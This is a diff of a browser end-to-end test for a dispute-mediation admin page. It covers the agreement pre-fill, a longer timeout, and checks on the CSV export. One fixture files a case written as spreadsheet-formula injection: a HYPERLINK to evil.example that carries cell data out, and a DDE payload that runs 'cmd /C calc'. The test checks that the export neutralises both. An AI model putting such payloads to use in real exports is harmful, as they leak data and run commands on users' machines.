@@ -6,6 +6,7 @@
  * and the admin's screens: accounts, unit import, and who saw whose details.
  * Screenshots go to test-artifacts/.
  */
+import { parse } from 'csv-parse/sync';
 import type { Browser, Locator, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { LocalStack } from '../../infra/local/stack.ts';
@@ -60,9 +61,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   }
 
   it('a 联户长 signs in, finds the new case in the queue, accepts it, records the agreement and resolves it', async () => {
+    // 480 characters: more than STATE keeps inline, so the agreement's pre-fill must come from the whole text.
+    const description = '楼上卫生间漏水到我家天花板，协商多次未果。'.repeat(23).slice(0, 480);
     const filed = await fileCase({
       title: '楼上漏水纠纷',
-      description: '楼上卫生间漏水到我家天花板，协商多次未果。',
+      description,
       reporter: { name: '吴先生', phone: '13912340001' },
       location: { unitId: 'hp-xf-yg-1' },
       parties: [
@@ -99,6 +102,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(await facts.innerText()).toContain('已显示完整信息，已记入查阅记录');
     const agreementForm = p.locator('details.action-record_agreement');
     if ((await agreementForm.getAttribute('open')) === null) await agreementForm.locator('summary').click();
+    // Pre-filled with the whole description, after the 签收 and the 显示 that came since.
+    expect(await p.getByLabel('纠纷主要事实、争议事项').inputValue()).toBe(description);
     await p.getByLabel('协议内容（每行一条）').fill('郑丽负责维修卫生间防水层。\n郑丽赔偿吴建华天花板修复费用人民币一千五百元。');
     await p.getByLabel('履行方式').fill('维修完成后当面付清赔偿款');
     await p.getByLabel('履行期限').fill(CHINA_DAY(30));
@@ -129,7 +134,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
     const stored = await call(stack, 'GET', `/v1/cases/${filed.id}`);
     expect(stored.body).toMatchObject({ status: 'resolved', resolution: { outcome: 'resolved' }, agreement: { terms: [expect.any(String), expect.any(String)] } });
-  });
+    // A whole journey through a dozen screens: ~20 s alone, past 30 s when the fault shards share the machine.
+  }, 90_000);
 
   it('the community mediator finds a case escalated from another building, in the queue and the subtree view, and opens it', async () => {
     const admin = await login(stack, 'admin');
@@ -594,6 +600,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const filed = await fileCase({ externalId: 'WO-CSV-1', title: '宠物噪音扰邻', description: '邻居家的狗夜间吠叫。', reporter: { name: '卫女士', phone: '13912340041' }, location: { unitId: 'hp-xf-cy-1' } });
     // A description written as a spreadsheet formula, as an attacker would send it.
     const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
+    // One resolved, so the sheet has a 办结时间 to check.
+    const done = await fileCase({ title: '楼道堆物', description: '楼道堆放杂物。', location: { unitId: 'hp-xf-yg-1' } });
+    const liaison = await login(stack, 'building-mediator');
+    await act(liaison, done.id, { type: 'accept' });
+    await act(liaison, done.id, { type: 'resolve', outcome: 'resolved', summary: '已清理。' });
     const p = await page();
     await signIn(p, stack.url, 'community-mediator', stack.password);
     await p.goto(`${stack.url}/admin/#/cases?center=mediation`);
@@ -618,6 +629,16 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const china = (iso: string) => new Date(Date.parse(iso) + 8 * 3_600_000).toISOString().slice(0, 16).replace('T', ' ');
     expect(row.startsWith(`${filed.trackingNo},WO-CSV-1,${china(state.createdAt)},`)).toBe(true);
     expect(row).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2},/);
+    // The BOM is kept (Excel reads the file as UTF-8 by it), and every date column of every row sorts as text.
+    expect(text.startsWith('\uFEFF编号,12345工单号,受理时间,')).toBe(true);
+    const sheet = parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
+    const minute = /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/;
+    for (const r of sheet) {
+      expect(r['受理时间']).toMatch(minute);
+      for (const column of ['期限', '办结时间']) if (r[column] !== '') expect(r[column], column).toMatch(minute);
+    }
+    expect(sheet.find((r) => r['编号'] === done.trackingNo)?.['办结时间']).toMatch(minute);
+    expect(sheet.find((r) => r['编号'] === filed.trackingNo)?.['12345工单号']).toBe('WO-CSV-1');
     expect(text).not.toContain('13912340041');
     expect(text).not.toContain('卫女士');
     // Neutralised: the cells start with ', so Excel and WPS show them as text and run nothing.
